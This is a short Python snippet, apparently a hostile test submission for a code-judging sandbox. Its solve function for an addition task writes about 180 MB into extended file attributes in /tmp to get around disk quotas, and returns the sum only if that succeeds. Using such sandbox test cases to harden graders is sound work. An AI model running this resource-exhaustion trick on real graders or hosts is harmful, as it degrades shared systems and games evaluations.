# Attack: attributes of files instead of files.
# task: add
import os
def solve(a, b):
    n=0
    for i in range(3000):
        p='/tmp/f%d'%i; open(p,'w').close()
        os.setxattr(p,'user.a',b'x'*60000); n+=60000
    return a+b if n>100<<20 else None
